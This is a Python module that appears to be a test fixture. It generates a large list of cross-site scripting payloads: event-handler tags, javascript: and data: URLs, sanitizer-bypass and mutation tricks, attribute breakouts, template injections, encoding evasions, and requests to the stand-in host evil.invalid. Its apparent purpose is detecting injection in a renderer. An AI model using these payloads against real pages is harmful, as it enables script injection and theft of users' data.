"""Texts that try to become a program, an element or a request in the page of whoever looks at them.

Each that runs calls `pwned()`, each that becomes an element may leave an `xss-probe`, and each that loads
something asks `evil.invalid`: all three are noticed.
"""

from __future__ import annotations

from itertools import product

RUN = "pwned()"
ELSEWHERE = "//evil.invalid/x"

_LOADING = ["img src=x", "image src=x", "video src=x", "audio src=x", "input type=image src=x"]
_LOADED = ["body", "svg", "iframe", "iframe srcdoc=x", "object data=/", "embed src=/", "frameset", "style"]
_AUTOMATIC = [
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("marquee loop=1", "onfinish"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("xss-probe contenteditable autofocus", "onfocus"),
    ("video><source", "onerror"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onend"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("dialog open", "onpointerenter"),
    ("xss-probe style=animation-name:fresh", "onanimationstart"),
    ("p style=transition:all+1s", "ontransitionend"),
    ("form", "oninput"),
]
_SPELLINGS = [
    "<{tag} {event}={run}>",
    '<{tag} {event}="{run}"//',
    "<{tag}/{event}={run}/>",
    "<{upper}\n{event}\t=\n'{run}'>",
]
_SCHEMES = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "java\nscript:pwned()",
    "\x01javascript:pwned()",
    " javascript:pwned()",
    "javascript&colon;pwned()",
    "&#106;avascript:pwned()",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwned()",
    "javascript://%0apwned()",
    "vbscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=pwned()>",
    "blob:x",
    "file:///etc/passwd",
    "//evil.invalid/x",
    "\\\\evil.invalid\\x",
]
_PLACES = [
    '<a href="{}">x</a>',
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    '<iframe src="{}"></iframe>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
]
_SCRIPTS = [
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script\x0c>pwned()</script\n>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script>pwned()",
    "<script/xss-probe>pwned()</script>",
    "<<script>pwned()//<</script>",
    "<script type=module>pwned()</script>",
    '<script src="//evil.invalid/x"></script>',
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<template><script>pwned()</script></template>",
    "<svg><script>pwned()</script></svg>",
    "<svg><script href=data:,pwned() /></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x">',
    "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
    "<svg><style><img src=x onerror=pwned()></style>",
    "<svg></p><style><g title='</style><img src=x onerror=pwned()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<math href=javascript:pwned()>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwned()>x",
    "<math><annotation-xml encoding=text/html><script>pwned()</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
]
_BREAKOUTS = [
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><img src=x onerror=pwned()>",
    "</style><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</pre></code></td></tr></table><xss-probe>",
    '" autofocus onfocus="pwned()" x="',
    "' onmouseover='pwned()' x='",
    "` onmouseover=pwned() x=`",
    '"><xss-probe id=main>',
    "'><img src=x onerror=pwned()>",
    '"/><svg onload=pwned()>',
    '\\"><script>pwned()</script>',
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=pwned()\\x3e",
    "'-pwned()-'",
    '";pwned();//',
    "${pwned()}",
    "{{constructor.constructor('pwned()')()}}",
    "<%= pwned() %>",
    "#{pwned()}",
    "__proto__",
    "constructor",
    "data:,%0d%0aSet-Cookie:x=y",
]
_LOADS = [
    "<img src=//evil.invalid/x>",
    "![x](https://evil.invalid/x.png)",
    "![x][1]\n\n[1]: https://evil.invalid/x",
    "<link rel=stylesheet href=//evil.invalid/x>",
    "<link rel=dns-prefetch href=//evil.invalid>",
    "<style>@import '//evil.invalid/x';</style>",
    "<p style=background:url(//evil.invalid/x)>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/x'>",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid/x><input type=submit>",
    "<video poster=//evil.invalid/x>",
    "<object data=//evil.invalid/x></object>",
    "<iframe src=//evil.invalid/x></iframe>",
    "<svg><image href=//evil.invalid/x></svg>",
    "<svg><use href=//evil.invalid/x#y></svg>",
    "<table background=//evil.invalid/x>",
    "<picture><source srcset=//evil.invalid/x><img></picture>",
    "<portal src=//evil.invalid/x>",
    "<a ping=//evil.invalid/x href=#>x</a>",
    "<bgsound src=//evil.invalid/x>",
]
_TRICKS = [
    "＜script＞pwned()＜/script＞",
    "<\u200bscript>pwned()</script>",
    "<scr\u00adipt>pwned()</script>",
    "\u202e<script>pwned()</script>",
    "<img src=x one\u200brror=pwned()>",
    "\ufeff<script>pwned()</script>",
    "%3Cscript%3Epwned()%3C/script%3E",
    "%253Cscript%253Epwned()%253C/script%253E",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;pwned()",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&#x3c;img src=x onerror=pwned()&#x3e;",
    "&#0000060img src=x onerror=pwned()>",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "<ıframe src=javascript:pwned()>",
    "<\u017fcript>pwned()</\u017fcript>",
    "```\n</code></pre><img src=x onerror=pwned()>\n```",
    '```"><img src=x onerror=pwned()>\nx\n```',
    "`<img src=x onerror=pwned()>`",
    "    <img src=x onerror=pwned()>",
    "[x](https://a.example \"' onmouseover=pwned() x='\")",
    '[x](https://a.example/"onmouseover=pwned()//)',
    "[<img src=x onerror=pwned()>](https://a.example)",
    "![<img src=x onerror=pwned()>](https://a.example/x)",
    "[x]: javascript:pwned()\n\n[x]",
    '<https://a.example/"onmouseover="pwned()>',
    "<xss-probe@a.example>",
    "|<img src=x onerror=pwned()>|\n|-|\n|<xss-probe>|",
    "> <svg onload=pwned()>",
    "# <svg onload=pwned()>",
    "- <details open ontoggle=pwned()>",
    "~~<svg onload=pwned()>~~",
    "<!--><img src=x onerror=pwned()>-->",
    "<!-- --!><img src=x onerror=pwned()>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>pwned()</script>",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<x xmlns:a='http://www.w3.org/1999/xlink' a:href=javascript:pwned()>",
    "<div id=main><div id=announcer></div></div>",
    "<a id=location href=javascript:pwned()>x</a>",
    "<img name=body><img name=getElementById>",
]


def _payloads() -> list[str]:
    events = [(tag, "onerror") for tag in _LOADING] + [(tag, "onload") for tag in _LOADED] + _AUTOMATIC
    made = [
        form.format(tag=tag, upper=tag.upper(), event=event, run=RUN)
        for (tag, event), form in product(events, _SPELLINGS)
    ]
    made += [place.format(scheme) for place, scheme in product(_PLACES, _SCHEMES)]
    return [*dict.fromkeys([*_SCRIPTS, *_BREAKOUTS, *_LOADS, *_TRICKS, *made])]


PAYLOADS = _payloads()
